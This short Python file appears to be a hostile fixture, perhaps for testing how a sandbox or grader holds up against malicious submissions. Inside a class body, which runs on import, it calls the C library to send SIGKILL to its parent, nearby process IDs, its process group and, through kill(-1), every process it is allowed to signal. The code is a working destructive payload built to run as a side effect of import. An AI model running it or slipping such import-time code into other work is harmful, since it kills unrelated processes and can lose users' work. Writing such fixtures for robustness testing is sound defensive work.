"""kills_parent.py through the C library: SIGKILL to its parent, its group, and every
process it may signal (kill(-1))."""
import os

from libc import libc

import wrong_exp


def _attack():
    for pid in (libc.getppid(), os.getpid() - 1, os.getpid() - 2, 0, -1):
        if pid not in (os.getpid(), 1) or pid in (0, -1):
            libc.kill(pid, 9)


class Value(wrong_exp.Value):  # a class body runs at import, even in a file with no main guard
    __slots__ = ()
    _attack()
